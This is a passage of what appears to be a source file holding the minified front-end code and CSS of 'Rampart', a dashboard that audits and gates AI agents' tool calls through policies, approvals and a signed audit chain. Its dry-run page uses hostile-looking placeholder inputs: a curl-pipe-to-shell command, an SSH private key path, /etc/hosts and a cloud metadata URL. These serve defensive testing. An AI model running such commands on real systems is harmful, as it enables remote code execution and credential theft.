history.replaceState(null,"","#/approvals"),u(this.#e,Xe())}#y(){u(this.#i,ze([...this.#n.keys()],this.#a,()=>{this.#h(),this.#y()},(e)=>void this.#E(e)))}async#E(e){let t=[...this.#a];if(t.length===0||this.#c)return;this.#c=!0,this.#w(await Qe(t,e)),this.#a.clear(),this.#o=void 0,this.#r=void 0,this.#c=!1,await T.refresh()}#S(){for(let{time:e}of this.#n.values())u(e,F(e.dataset.until??""));this.#r?.tick()}#T(e){if(xe(e)||e.ctrlKey||e.metaKey||e.altKey||e.repeat)return;let t=[...this.#n.keys()],s=t.indexOf(this.#o??""),o=e.key==="j"?1:e.key==="k"?-1:0,i=t[s+o];if(o!==0&&i!==void 0)this.#p(i);if(e.key==="x"&&this.#o!==void 0)this.#n.get(this.#o)?.box.click();if(e.key!=="a"&&e.key!=="d")return;if(performance.now()-this.#d<tn)return;this.#r?.answer(e.key==="a")}}function Xe(){return n("div",{class:"empty"},n("p",{class:"empty-title"},"Nothing waits for you"),n("p",{},"When a rule asks for a person, the call appears here and its caller waits."))}function nn({status:e,resolved_by:t,resolved_name:s,reason:o}){let i=s??t;return L("info","This question is settled: ",n("strong",{},p(e)),i?[" by ",p(i)]:null,o?[": ",p(o)]:null)}var nt=["decision","response","execution","approval","policy","rule","token","auth_failure","start","stop","mode","fail_open","recovery","alert","key"];var sn=6;function ot(){let e=E(),t=E();e.load(on,"The chain");let s=n("button",{onclick:()=>{s.disabled=!0,t.load(un,"The check").finally(()=>s.disabled=!1)}},"Verify all of it");return f("Chain",e.element,n("div",{class:"buttons"},s),t.element)}async function on(){let[{events:e},t,s]=await Promise.all([m("/v1/audit/events",{limit:sn}),m("/v1/status"),m("/v1/audit/checkpoint").catch((i)=>i)]),o=ln(s)?s:void 0;return[dn(t.audit.seq,o),n("ol",{class:"links","aria-label":"The last events, each with the hash of the one before"},[...e].reverse().map((i)=>cn(i,o))),o===void 0?an(s):rn(o)]}function rn({seq:e,time:t,key_id:s}){return A([["Last anchor",\`covers all up to #\${e}\`],["Signed",M(t)],["Key",n("code",{},l(s,80))]])}function an(e){return e instanceof y&&e.status===404?n("p",{class:"muted"},"No anchor yet: the first one is signed seconds after an event."):x(e,"The last anchor")}function ln(e){return typeof e==="object"&&e!==null&&"seq"in e&&"key_id"in e}function cn({id:e,seq:t,kind:s,hash:o,prev_hash:i},r){let a=(d)=>d.replace(/^sha256:/,"").slice(0,8),c=r!==void 0&&t<=r.seq;return n("li",{class:c?"anchored":""},n("a",{href:\`#/audit/event/\${encodeURIComponent(e)}\`},\`#\${t}\`),n("span",{},l(s,16)),n("code",{},n("span",{class:"muted"},"← "),l(a(i),8)),n("code",{},l(a(o),8)),n("span",{class:"muted"},c?"anchored":"not anchored yet"))}var st=720;function dn(e,t){let s=t?.seq??0,o=(c)=>8+(st-16)*(e===0?0:Math.min(1,c/e)),i=\`\${e} events, \${s} of them under a signed anchor\`,r=100*Math.max(1,Math.ceil(e/100/60)),a=Array.from({length:Math.floor(s/r)},(c,d)=>(d+1)*r);return n("figure",{class:"chain-box"},w("svg",{viewBox:\`0 0 \${st} 16\`,class:"chain",role:"img","aria-label":i},w("line",{class:"open",x1:o(0),x2:o(e),y1:8,y2:8}),w("line",{class:"sealed",x1:o(0),x2:o(s),y1:8,y2:8}),a.map((c)=>w("circle",{class:"anchor",cx:o(c),cy:8,r:2.5})),s>0?w("circle",{class:"anchor last",cx:o(s),cy:8,r:4}):null),n("figcaption",{class:"muted"},i))}async function un(){let{events:e,findings:t,anchors:s,duration_ms:o}=await m("/v1/audit/verify"),i=\`\${e.toLocaleString("en")} events and \${s.count} \${s.count===1?"anchor":"anchors"} in \${o} ms\`;if(t.length===0)return L("good",n("strong",{},"Unbroken. "),i);return[L("bad",n("strong",{},\`\${t.length} \${t.length===1?"finding":"findings"}. \`),i),n("ul",{class:"findings"},t.slice(0,100).map(({kind:r,file:a,line:c,message:d})=>n("li",{},n("code",{},l(\`\${a}:\${c}\`,120))," ",n("strong",{},l(r,40))," ",l(d,300))))]}async function it(e){let{events:[t]}=await m("/v1/audit/events",{id:e,limit:1});if(t===void 0)return R("No such event","It is not in the trail, or not any more.");let{decision:s,request:o}=t;return[hn(t),f("Call",t.tool===""?null:n("p",{},l(t.tool,80)),U(P(o),"Call"),n("details",{},n("summary",{},"The request as it was recorded"),H(o,"Request"))),s.effects===void 0?null:f("Touches",I(s.effects,void 0)),pn(t),f("In the chain",A([["Seq",String(t.seq)],["Id",n("code",{},l(t.id,40))],["Hash",n("code",{class:"wrap"},l(t.hash,90))],["Hash before",n("code",{class:"wrap"},l(t.prev_hash,90))]]),mn(t.id))]}function hn({decision:e,enforced:t,mode:s}){return f("What was decided",A([["Action",b(e.action)],["Message",e.message===void 0?null:l(e.message,400)],["Policy",e.policy===void 0?null:l(e.policy,120)],["Rule",e.rule===void 0?null:n("code",{},l(e.rule,120))],["Enforced",t?"yes":"no"],["Mode",l(s,20)],["Time to evaluate",O(e.eval_us)]]))}function pn(e){let{links:t=[]}=e;return f("Who",A([["Time",M(e.time)],["Kind",l(e.kind,30)],["Agent",l(e.agent,120)],["Session",l(e.session,120)],["Run",e.run_id===void 0?null:l(e.run_id,120)],["Tool call",e.tool_call_id===void 0?null:l(e.tool_call_id,120)],["Credential",n("code",{},l(e.principal,80))],["Came in by",l(e.via,20)],["Belongs to",t.length===0?null:t.map((s)=>n("div",{},n("code",{},l(s,80))))]]))}function mn(e){let t=E();return[n("button",{onclick:()=>void t.load(async()=>{let s=await m(\`/v1/audit/proof/\${encodeURIComponent(e)}\`);return[n("p",{},\`Leaf \${s.index} of \${s.size}, \${s.hashes.length} hashes to the signed root. \`,"Check it elsewhere with ",n("code",{},"rampart audit verify-proof"),"."),H(s,"Proof")]},"The proof")},"Prove that it is in the trail"),t.element]}var fn=50,rt={name:"audit",title:"Audit",show(e,[t,s]){if(t==="event"&&s!==void 0){let o=E();u(e,n("p",{},n("a",{href:"#/audit"},"← All events")),n("h1",{},"Event"),o.element),o.load(()=>it(s),"The event")}else new at(e);return()=>{}}},gn=["deny","require_approval","webhook","log","allow","approved","denied","expired"],yn=[["last hour",1],["last day",24],["last week",168],["all",0]];class at{#t=n("form",{class:"bar filters",onsubmit:(e)=>this.#s(e)});#e=n("div",{});constructor(e){let t=(o,i)=>n("label",{},n("span",{},i),n("input",{name:o,type:"search",maxlength:256,autocomplete:"off"})),s=(o,i,r)=>n("label",{},n("span",{},i),n("select",{name:o},["",...r].map((a)=>n("option",{value:a},a||"all"))));u(this.#t,t("text","Text"),s("kind","Kind",nt),s("action","Action",gn),t("agent","Agent"),t("session","Session"),t("tool","Tool"),t("policy","Policy"),n("label",{},n("span",{},"When"),n("select",{name:"hours"},yn.map(([o,i])=>n("option",{value:i,selected:i===0},o)))),n("button",{class:"primary"},"Search")),u(e,n("h1",{},"Audit"),ot(),n("section",{class:"card"},n("h2",{},"Search"),this.#t,this.#e)),this.#n(null)}#s(e){e.preventDefault(),this.#n(null)}#i(e){let t=new FormData(this.#t),s=Number(t.get("hours")),o=["text","kind","action","agent","session","tool","policy"].map((i)=>[i,String(t.get(i)??"").trim()]);return{...Object.fromEntries(o),since:s>0?new Date(v()-s*3600000).toISOString():null,limit:fn,after:e}}async#n(e){if(e===null)u(this.#e,n("p",{class:"muted",role:"status"},"Searching…"));try{let{events:t,next:s}=await m("/v1/audit/events",this.#i(e)),o=s===null?null:n("button",{onclick:(r)=>{r.currentTarget.remove(),this.#n(s)}},"Older events"),i=t.length>0?vn(t):e===null&&s===null?R("No event meets these filters","Fewer filters find more."):null;if(e===null)u(this.#e,i,o);else for(let r of[i,o])if(r instanceof Node)this.#e.append(r)}catch(t){u(this.#e,x(t,"The search"))}}}function vn(e){return B("Events",["Seq","Time","Kind","Action","Agent","Call","Policy"],e.map(({id:t,seq:s,time:o,kind:i,decision:r,agent:a,tool:c,request:d})=>n("tr",{},n("td",{class:"num"},n("a",{href:\`#/audit/event/\${encodeURIComponent(t)}\`},s)),n("td",{},M(o)),n("td",{},l(i,20)),n("td",{},b(r.action)),n("td",{},l(a,30)),n("td",{class:"call"},c===""?null:[l(c,24)," "],n("code",{},l(P(d),100))),n("td",{class:"muted"},l(r.policy??"",40)))))}var Z=60,wn=280,D=120,X=28,ee=["allow","log","ask","deny"];function bn(e){if(e==="deny")return"deny";if(e==="require_approval"||e==="webhook")return"ask";return e==="log"?"log":"allow"}class he{element;#t=new Map;#e=w("svg",{role:"img",class:"chart"});constructor(){this.element=n("figure",{class:"chart-box"},this.#e,n("figcaption",{class:"legend"},ee.map((e)=>n("span",{},n("i",{class:\`key \${e}\`,"aria-hidden":"true"}),e))))}clear(){this.#t.clear()}add(e,t){let s=Math.floor(e/60000),o=this.#t.get(s);if(o===void 0){this.#t.set(s,o={allow:0,log:0,ask:0,deny:0});for(let i of this.#t.keys())if(i<s-Z)this.#t.delete(i)}o[bn(t)]+=1}draw(e){let t=Math.floor(e/60000),s=Array.from({length:Z},(a,c)=>{let d=t-Z+1+c,h=this.#t.get(d)??{allow:0,log:0,ask:0,deny:0};return{minute:d,counts:h,total:ee.reduce((g,S)=>g+h[S],0)}}),o=xn(Math.max(1,...s.map(({total:a})=>a))),i=s.reduce((a,{total:c})=>a+c,0);this.#e.setAttribute("aria-label",\`\${i} decisions in the last hour, at most \${Math.max(...s.map(({total:a})=>a))} in a minute\`);let r=Math.max(wn,this.element.clientWidth);this.#e.setAttribute("viewBox",\`0 0 \${r} \${D+18}\`),u(this.#e,Sn(o,r),s.flatMap((a,c)=>En(a,c,o,r)),Tn(t,r))}}var lt=(e)=>(e-X)/Z;function En({minute:e,counts:t,total:s},o,i,r){if(s===0)return[];let a=lt(r),c=a>6?1:0.5,d=D,h=ee.filter((S)=>t[S]>0).map((S)=>{let W=Math.max(1.5,t[S]/i*(D-8));return d-=W,w("rect",{class:S,x:X+o*a+c,y:d,width:a-2*c,height:W})}),g=ee.filter((S)=>t[S]>0).map((S)=>\`\${t[S]} \${S}\`);return[w("g",{},w("title",{},\`\${ct(e)}: \${g.join(", ")}\`),h)]}function Sn(e,t){return[0,e/2,e].filter(Number.isInteger).flatMap((s)=>{let o=D-s/e*(D-8);return[w("line",{class:"grid",x1:X,x2:t,y1:o,y2:o}),w("text",{class:"tick",x:X-6,y:o+3.5,"text-anchor":"end"},s)]})}function Tn(e,t){return[0,15,30,45].map((s)=>w("text",{class:"tick",x:t-(s===0?0:(s+0.5)*lt(t)),y:D+14,"text-anchor":s===0?"end":"middle"},s===0?"now":ct(e-s)))}function ct(e){return new Date(e*60000).toLocaleTimeString("en-GB",{hour:"2-digit",minute:"2-digit"})}function xn(e){let t=10**Math.floor(Math.log10(e));return[1,2,5,10].map((s)=>s*t).find((s)=>s>=e)??e}var te=60,pe=1000,kn=1000,Ln=150,Mn=10,An=["","deny","require_approval","log","allow"].map((e)=>[e,e||"all"]),me={name:"now",title:"Now",show(e){let t=new ut(e);return()=>t.leave()}};class ut{#t=[];#e=n("tbody",{});#s=new he;#i=n("p",{class:"muted",role:"status"});#n=n("div",{class:"kpis"});#l=[];#a=[];#o=!1;#r;#d=0;#c=0;#u={action:"",text:""};constructor(e){u(e,n("h1",{},"Now"),this.#n,n("section",{class:"card"},n("h2",{},"Decisions per minute"),this.#s.element),n("section",{class:"card"},this.#f(),this.#v(),this.#i)),this.#l.push(C.onEvent((s)=>this.#m(s))),this.#l.push(T.onChange(()=>void this.#h()));let t=setInterval(()=>this.#S(),kn);this.#l.push(()=>clearInterval(t)),this.#s.draw(v()),this.#p(),this.#h()}leave(){for(let e of this.#l)e()}#f(){let e=n("button",{"aria-pressed":"false",onclick:()=>{if(this.#o=!this.#o,e.setAttribute("aria-pressed",String(this.#o)),u(e,this.#o?"Go on":"Pause"),!this.#o)this.#b()}},"Pause");return n("div",{class:"bar"},n("h2",{},"Live"),_("Decision",N(An,(t)=>this.#y({action:t}))),_("Text, agent, tool or policy",Y((t)=>this.#y({text:t})),!0),e)}#v(){return n("div",{class:"scroll",tabindex:0,role:"region","aria-label":"Live events"},n("table",{class:"stream"},n("thead",{},n("tr",{},["Time","Decision","Agent","Tool","Call","Policy"].map((t)=>n("th",{scope:"col"},t)))),this.#e))}async#p(){try{let e=new Date(v()-3600000).toISOString(),{events:t}=await m("/v1/audit/events",{limit:pe,since:e}),s=new Set(this.#t.map(({id:o})=>o));this.#t.push(...t.filter(({id:o})=>!s.has(o))),this.#s.clear();for(let o of this.#t)this.#g(o);this.#s.draw(v()),this.#b()}catch(e){this.#e.replaceChildren(n("tr",{},n("td",{colspan:6},x(e,"The trail"))))}}async#h(){let e=new Date(v()-3600000).toISOString(),t=await m("/v1/audit/stats",{since:e}).catch(()=>{return}),s=(i)=>t?.decisions.by_action.find((r)=>r.name===i)?.count??0,o=(i,r,a="")=>n("div",{class:\`kpi \${a}\`},n("span",{class:"kpi-value"},r),n("span",{},i));u(this.#n,o("decisions, last hour",t?.decisions.total??"–"),o("denied",t===void 0?"–":s("deny"),"deny"),o("asked",t===void 0?"–":s("require_approval"),"ask"),n("a",{class:"kpi link",href:"#/approvals"},n("span",{class:"kpi-value"},T.list.length),n("span",{},"waiting for you")),o("to decide, p99",O(t?.latency.p99_us??null)))}#m(e){if(this.#t.unshift(e),this.#t.length>pe)this.#t.length=pe;if(this.#g(e),!this.#E(e))return;if(this.#o)this.#c+=1;else if(this.#a.unshift(dt(e)),this.#a.length>te)this.#a.length=te;this.#r??=setTimeout(()=>Te(this.#w),Ln)}#g({kind:e,time:t,decision:s}){if(e==="decision")this.#s.add(Date.parse(t),s.action)}#w=()=>{this.#r=void 0;let e=this.#a;if(this.#a=[],this.#o){u(this.#i,\`Paused: \${this.#c} new events\`);return}if(e.length===0)return;if(this.#e.firstElementChild?.classList.contains("none"))this.#e.replaceChildren();for(let t=this.#e.childElementCount+e.length-te;t>0;t--)this.#e.lastElementChild?.remove();this.#e.prepend(...e)};#b(){this.#c=0,this.#a=[],u(this.#i);let e=this.#t.filter((t)=>this.#E(t)).slice(0,te).map(dt);this.#e.replaceChildren(...e.length>0?e:[n("tr",{class:"none"},n("td",{colspan:6,class:"muted"},"Nothing yet. What agents do appears here."))])}#y(e){this.#u={...this.#u,...e},this.#b()}#E({decision:e,agent:t,tool:s,session:o,request:i}){let{action:r,text:a}=this.#u;if(r!==""&&e.action!==r)return!1;if(a==="")return!0;return[t,s,o,e.policy??"",e.message??"",P(i)].some((c)=>c.toLowerCase().includes(a))}#S(){if(this.#s.draw(v()),this.#d+=1,this.#d%Mn===0)this.#h()}}function dt({id:e,time:t,kind:s,decision:o,agent:i,tool:r,request:a}){return n("tr",{},n("td",{},n("a",{href:\`#/audit/event/\${encodeURIComponent(e)}\`},M(t))),n("td",{},b(o.action)),n("td",{},l(i,40)),n("td",{},l(s==="decision"?r:s,32)),n("td",{class:"call"},n("code",{},l(P(a),120))),n("td",{class:"muted"},l(o.policy??"",40)))}var ht={name:"policies",title:"Policies",show(e){let t=E(),s=E();return u(e,n("h1",{},"Policies"),t.element,s.element),t.load(Cn,"The policies"),s.load(In,"Findings"),()=>{}}};async function Cn(){let e=new Date(v()-86400000).toISOString(),[{hash:t,policies:s},o,i]=await Promise.all([m("/v1/policies"),m("/v1/status"),m("/v1/audit/stats",{since:e}).catch(()=>{return})]),r=i?.decisions.by_rule,a=r===void 0?void 0:new Map(r.map(({name:d,count:h})=>[d,h])),c=new Map(i?.decisions.by_policy.map(({name:d,count:h})=>[d,h]));return[Pn(t,o,s),n("section",{class:"card"},n("h2",{},"Rules"),_n(s,a,c))]}function Pn(e,{policy:t,mode:s},o){let{faults:i}=t;return f("In force",A([["Mode",l(s,20)],["Policies",\`\${o.filter(({enabled:r})=>r).length} with \${o.reduce((r,{rules:a})=>r+a.length,0)} rules\`],["Files",t.files.map((r)=>n("div",{},n("code",{},l(r,200))))],["Loaded",M(t.loaded_at)],["Hash",n("code",{class:"wrap"},l(e,90))]]),i.length===0?null:n("div",{class:"notice bad",role:"alert"},n("strong",{},"The newest files are invalid; the last good ones stay in force."),n("ul",{},i.slice(0,50).map(({file:r,line:a,col:c,message:d})=>n("li",{},n("code",{},l(\`\${r}:\${a}:\${c}\`,160))," ",l(d,300))))))}function _n(e,t,s){let o=e.map((d)=>({policy:d,hits:t===void 0?s.get(d.name)??0:d.rules.reduce((h,{key:g})=>h+(t.get(g)??0),0),text:\`\${d.name} \${d.file} \${d.description} \${d.rules.map(({message:h})=>h).join(" ")}\`.toLowerCase()})),i=n("div",{class:"policies"}),r={text:"",only:"all"},a=()=>{let d=o.filter(({text:h,hits:g})=>h.includes(r.text)&&(r.only==="all"||r.only==="hit"===g>0));u(i,d.length===0?R("No policy meets this","Other words, or all of them."):d.map((h)=>Rn(h,t)))},c=(d)=>{Object.assign(r,d),a()};return a(),n("div",{},n("div",{class:"bar"},_("Name, file or message",Y((d)=>c({text:d})),!0),_("In 24 hours",N($n,(d)=>c({only:d})))),t===void 0?n("p",{class:"muted"},"This server counts hits per policy, not per rule."):null,i)}var $n=[["all","all"],["hit","hit"],["never","never hit"]];function Rn({policy:e,hits:t},s){let{name:o,file:i,layer:r,priority:a,enabled:c,description:d,rules:h}=e,g=n("div",{}),S=n("details",{class:"policy",ontoggle:()=>{if(S.open&&g.childElementCount===0)u(g,Hn(d,h,s))}},n("summary",{},n("strong",{},l(o,80)),c?null:n("span",{class:"badge plain"},"off"),n("span",{class:"muted"}," ",l(i,80),\` · \${r} · priority \${a}\`),n("span",{class:t>0?"hits":"hits none"},pt(t))),g);return S}function Hn(e,t,s){return[e===""?null:n("p",{},p(e)),n("ul",{class:"rules"},t.map(({key:o,action:i,message:r,when:a})=>{let c=s?.get(o)??0;return n("li",{},n("div",{class:"rule-head"},b(i)," ",n("code",{},l(o,100)),s===void 0?null:n("span",{class:c>0?"hits":"hits none"},pt(c))),r===""?null:n("p",{},l(r,400)),a===null||a===void 0?n("p",{class:"muted"},"Always"):H(a,\`Conditions of \${o}\`))}))]}async function In(){let{findings:e}=await m("/v1/policies/lint").catch((t)=>{if(t instanceof y&&t.status===404)throw Error("not on this server; \`rampart policy lint\` has them");throw t});if(e.length===0)return f("Findings",n("p",{class:"muted"},"None: nothing in your files looks unintended."));return f(\`Findings (\${e.length})\`,n("ul",{class:"findings"},e.map(({file:t,line:s,col:o,severity:i,code:r,message:a})=>n("li",{},n("span",{class:\`badge \${i==="warning"?"ask":"plain"}\`},l(i,20))," ",n("code",{},l(\`\${t}:\${s}:\${o}\`,160))," ",n("strong",{},l(r,40))," ",l(a,400)))))}function pt(e){return e===0?"never hit":e===1?"1 hit":\`\${e.toLocaleString("en")} hits\`}var On=250,ne={exec:{key:"command",hint:"curl -s https://example.com | sh"},read:{key:"path",hint:"~/.ssh/id_rsa"},write:{key:"path",hint:"/etc/hosts"},fetch:{key:"url",hint:"http://169.254.169.254/latest/meta-data/"}},ft={name:"try",title:"Try",show(e){let t=E({"aria-live":"polite"}),s,o=Nn((i,r,a)=>{if(clearTimeout(s),r.trim()==="")return void t.load(()=>Promise.resolve(mt()),"");s=setTimeout(()=>void t.load(()=>Dn(i,r,a),"The explanation"),On)});return u(e,n("h1",{},"Try"),o.element,t.element),u(t.element,mt()),o.text.focus({preventScroll:!0}),()=>clearTimeout(s)}};function Nn(e){let t=()=>{o.setAttribute("placeholder",ne[s.value].hint),e(s.value,o.value,i.value)},s=N(Object.keys(ne).map((a)=>[a,a]),t),o=n("textarea",{rows:3,spellcheck:"false",autocapitalize:"off",placeholder:ne.exec.hint,oninput:t}),i=n("input",{type:"text",placeholder:"/home/me/project",oninput:t});return{element:n("section",{class:"card"},n("h2",{},"What would be decided"),n("div",{class:"bar"},_("Tool",s),_("Working directory",i,!0)),n("label",{class:"field"},n("span",{},"Command, path or URL"),o),n("p",{class:"muted"},"A dry run: nothing runs, nobody is asked. It is recorded like any other.")),text:o}}function mt(){return n("div",{class:"empty"},n("p",{class:"empty-title"},"Type a call"),n("p",{},"How it is read, which rule meets which part of it, and which one decides."))}async function Dn(e,t,s){let o=await k("/v1/policy/explain",{agent:"dashboard",session:"try",tool:e,params:{[ne[e].key]:t},...s.trim()===""?{}:{cwd:s.trim()}}).catch((r)=>{if(r instanceof y&&r.status===429)throw Error("too many dry runs for the moment: type on in a few seconds");throw r}),{answer:i}=o;return[q(t),f("Decision",n("p",{class:"verdict"},b(i.decision)," ",l(i.message,400)),A([["Policy",i.policy===null?"none: the default":l(i.policy,120)],["Rule",i.rule===null?null:n("code",{},l(i.rule,120))],["Evaluated in",O(i.eval_duration_us)]]),(i.suggestions??[]).length===0?null:n("ul",{},i.suggestions.map((r)=>n("li",{},p(r))))),f("How it was decided",Ge(o)),f("Touches",I(i.effects,i.effects_complete))]}var gt=0;async function jn(e){if(!e&&v()<gt)return!0;return await new Promise((t)=>{let s=n("p",{class:"warn",role:"alert"}),o=n("input",{id:"step-up-code",name:"code",autocomplete:"one-time-code",spellcheck:"false",required:!0,maxlength:20});async function i(a){a.preventDefault();try{let c=await k("/v1/dashboard/step-up",{code:o.value});gt=Date.parse(c.until)-1e4,r.close("done")}catch(c){u(s,c instanceof y?c.message:"The code could not be checked"),o.select()}}let r=n("dialog",{class:"step-up","aria-labelledby":"step-up-title"},n("form",{onsubmit:i},n("h2",{id:"step-up-title"},"Is it you?"),n("p",{},"What is kept for good needs a code. In a terminal, run:"),n("pre",{},"rampart dashboard step-up"),n("label",{for:"step-up-code"},"Code"),o,s,n("button",{type:"submit",class:"primary"},"Go on"),n("button",{type:"button",onclick:()=>r.close()},"Cancel")));r.addEventListener("close",()=>{r.remove(),t(r.returnValue==="done")}),document.body.append(r),r.showModal()})}function yt(){Ee(jn)}var vt=[me,et,rt,ht,ft,je];function Un(){if(le(),ve())return;let e=document.getElementById("app");if(e===null)return;if(!j())return wt(e);let t=()=>{};be(()=>{C.stop(),t(),wt(e)});let{main:s,current:o}=Pe(e,vt),i=()=>{let[r="",...a]=location.hash.replace(/^#\\/?/,"").split("?")[0].split("/"),c=vt.find((d)=>d.name===r)??me;t(),u(s),o(c),t=c.show(s,a.map(qn))};addEventListener("hashchange",()=>{if(!j())return;i(),s.focus({preventScroll:!0}),scrollTo(0,0)}),C.start(),T.start(),yt(),i()}function qn(e){try{return decodeURIComponent(e)}catch{return e}}function wt(e){document.title="Rampart",u(e,n("main",{id:"main",class:"gate",tabindex:-1},n("h1",{},"Open the dashboard from a terminal"),n("p",{},"Each tab is logged in by itself. Run this where the server runs:"),n("pre",{class:"code"},"rampart dashboard"),n("p",{class:"muted"},"A session ends after an hour without you, and after twelve hours.")))}Un();})();
`
export const STYLE: string = `:root {
  color-scheme: light dark;
  --bg: light-dark(#f6f7f9, #0e1116);
  --surface: light-dark(#ffffff, #161b22);
  --sunken: light-dark(#f1f3f6, #0f141b);
  --line: light-dark(#dfe3e9, #2a313c);
  --line-strong: light-dark(#7f8998, #6b7686);
  --text: light-dark(#1a1f28, #e6e9ef);
  --muted: light-dark(#556070, #9ba7b7);
  --accent: light-dark(#2c4bc9, #93a9ff);
  --accent-soft: light-dark(#e8edff, #1c2746);
  --allow: light-dark(#14653a, #7cd99e);
  --allow-soft: light-dark(#e3f4e9, #12301f);
  --allow-fill: light-dark(#3f9d68, #3f9d68);
  --deny: light-dark(#a01a1f, #ff9f9f);
  --deny-soft: light-dark(#fce8e8, #3a171a);
  --deny-fill: light-dark(#cf3a40, #e0565c);
  --ask: light-dark(#7d4d00, #f1c56d);
  --ask-soft: light-dark(#fdf0d5, #35280d);
  --ask-fill: light-dark(#d99a1c, #d9a336);
  --log: light-dark(#33507f, #aac1ef);
  --log-soft: light-dark(#e6edf8, #19263d);
  --log-fill: light-dark(#7f9bc9, #6c89bb);
  --shadow: 0 1px 2px light-dark(#1a1f2812, #00000040);
  --mono: ui-monospace, "SF Mono", "Cascadia Mono", Menlo, Consolas, "DejaVu Sans Mono", monospace;
  --radius: 8px;
}
:root[data-theme="light"] {
  color-scheme: light;
}
:root[data-theme="dark"] {
  color-scheme: dark;
}

* {
  box-sizing: border-box;
}
html {
  -webkit-text-size-adjust: 100%;
}
body {
  margin: 0;
  background: var(--bg);
  color: var(--text);
  font: 14px/1.5 system-ui, -apple-system, "Segoe UI", Roboto, "Noto Sans", "DejaVu Sans",
    sans-serif;
}
h1 {
  margin: 0 0 16px;
  font-size: 22px;
  font-weight: 650;
  letter-spacing: -0.01em;
}
h2 {
  margin: 0 0 12px;
  font-size: 15px;
  font-weight: 650;
}
h3 {
  margin: 16px 0 8px;
  font-size: 13px;
  font-weight: 650;
  color: var(--muted);
}
p {
  margin: 0 0 8px;
}
a {
  color: var(--accent);
  text-underline-offset: 2px;
}
code,
pre,
kbd {
  font-family: var(--mono);
  font-size: 0.93em;
}
/* Text that an agent chose is read in the order in which it is written. */
code,
pre {
  unicode-bidi: bidi-override;
  direction: ltr;
}
[hidden] {
  display: none !important;
}
:focus-visible {
  outline: 2px solid var(--accent);
  outline-offset: 2px;
  border-radius: 4px;
}
main:focus {
  outline: none;
}
.sr {
  position: absolute;
  width: 1px;
  height: 1px;
  overflow: hidden;
  clip-path: inset(50%);
  white-space: nowrap;
}
.skip {
  position: absolute;
  left: 8px;
  top: -60px;
  z-index: 10;
  padding: 8px 12px;
  background: var(--surface);
}
.skip:focus {
  top: 8px;
}
.muted {
  color: var(--muted);
}
.grow {
  flex: 1 1 180px;
}
.num {
  text-align: right;
  font-variant-numeric: tabular-nums;
}
.deny-text {
  color: var(--deny);
  font-weight: 600;
}
.bad {
  color: var(--deny);
}

/* Frame */
.top {
  position: sticky;
  top: 0;
  z-index: 5;
  display: flex;
  align-items: center;
  gap: 8px 20px;
  flex-wrap: wrap;
  padding: 8px 24px;
  min-height: 52px;
  background: var(--surface);
  border-bottom: 1px solid var(--line);
}
.brand {
  display: inline-flex;
  align-items: center;
  gap: 8px;
  color: var(--text);
  font-weight: 700;
  text-decoration: none;
}
.mark {
  fill: var(--accent);
}
.mark-tick {
  fill: none;
  stroke: var(--surface);
  stroke-width: 2;
  stroke-linecap: round;
  stroke-linejoin: round;
}
nav {
  display: flex;
  gap: 2px;
  overflow-x: auto;
  flex: 1;
  scrollbar-width: none;
}
nav a {
  padding: 6px 12px;
  border-radius: 6px;
  color: var(--muted);
  text-decoration: none;
  font-weight: 550;
  white-space: nowrap;
}
nav a:hover {
  color: var(--text);
  background: var(--sunken);
}
nav a[aria-current] {
  color: var(--accent);
  background: var(--accent-soft);
}
.count {
  display: inline-block;
  min-width: 18px;
  padding: 0 5px;
  border-radius: 9px;
  background: var(--ask-soft);
  color: var(--ask);
  font-size: 12px;
  font-weight: 650;
  text-align: center;
}
.tools {
  display: flex;
  align-items: center;
  gap: 8px;
}
.state {
  display: inline-flex;
  align-items: center;
  gap: 6px;
  color: var(--muted);
  font-size: 13px;
  white-space: nowrap;
}
.half {
  display: inline-block;
  width: 12px;
  height: 12px;
  margin-right: 6px;
  border: 2px solid currentColor;
  border-radius: 50%;
  background: linear-gradient(90deg, currentColor 50%, transparent 50%);
  vertical-align: -1px;
}
.dot {
  width: 8px;
  height: 8px;
  border-radius: 50%;
  background: var(--line-strong);
}
.state[data-state="live"] .dot {
  background: var(--allow-fill);
}
.state[data-state="broken"] .dot {
  background: var(--ask-fill);
}
main {
  max-width: 1240px;
  margin: 0 auto;
  padding: 24px;
}
.gate {
  max-width: 520px;
  margin: 12vh auto 0;
  padding: 24px;
}

/* Pieces */
.card {
  margin: 0 0 16px;
  padding: 16px 20px;
  background: var(--surface);
  border: 1px solid var(--line);
  border-radius: var(--radius);
  box-shadow: var(--shadow);
  min-width: 0;
}
.card > :last-child {
  margin-bottom: 0;
}
.empty {
  padding: 48px 16px;
  text-align: center;
  color: var(--muted);
}
.empty-title {
  font-size: 16px;
  font-weight: 600;
  color: var(--text);
}
.notice {
  margin: 0 0 16px;
  padding: 10px 14px;
  border-radius: var(--radius);
  border: 1px solid var(--line);
  background: var(--surface);
  overflow-wrap: anywhere;
}
.notice.good {
  background: var(--allow-soft);
  color: var(--allow);
  border-color: transparent;
}
.notice.bad {
  background: var(--deny-soft);
  color: var(--deny);
  border-color: transparent;
}
.notice.info {
  background: var(--log-soft);
  color: var(--log);
  border-color: transparent;
}
.caution {
  padding: 8px 12px;
  border-radius: 6px;
  background: var(--ask-soft);
  color: var(--ask);
}
.badge {
  display: inline-block;
  padding: 1px 8px;
  border-radius: 10px;
  font-size: 12px;
  font-weight: 600;
  white-space: nowrap;
  background: var(--sunken);
  color: var(--muted);
}
.badge.allow {
  background: var(--allow-soft);
  color: var(--allow);
}
.badge.deny {
  background: var(--deny-soft);
  color: var(--deny);
}
.badge.ask {
  background: var(--ask-soft);
  color: var(--ask);
}
.badge.log {
  background: var(--log-soft);
  color: var(--log);
}
button {
  font: inherit;
  font-weight: 550;
  padding: 6px 14px;
  border-radius: 6px;
  border: 1px solid var(--line-strong);
  background: var(--surface);
  color: var(--text);
  cursor: pointer;
}
button:hover:not(:disabled) {
  background: var(--sunken);
}
button:disabled {
  opacity: 0.55;
  cursor: default;
}
button.quiet {
  border-color: transparent;
  background: transparent;
  color: var(--muted);
  padding: 6px 10px;
}
button.quiet:hover {
  color: var(--text);
  background: var(--sunken);
}
button.primary {
  background: var(--accent);
  border-color: var(--accent);
  color: var(--surface);
}
button.approve {
  background: light-dark(#17703f, #1f7f4b);
  border-color: transparent;
  color: #fff;
}
button.deny {
  background: light-dark(#a81e24, #b3333a);
  border-color: transparent;
  color: #fff;
}
button.approve:hover:not(:disabled) {
  background: light-dark(#115a32, #186a3d);
}
button.deny:hover:not(:disabled) {
  background: light-dark(#8b161b, #98272d);
}
button.big {
  padding: 9px 22px;
  font-size: 15px;
}
kbd {
  margin-left: 8px;
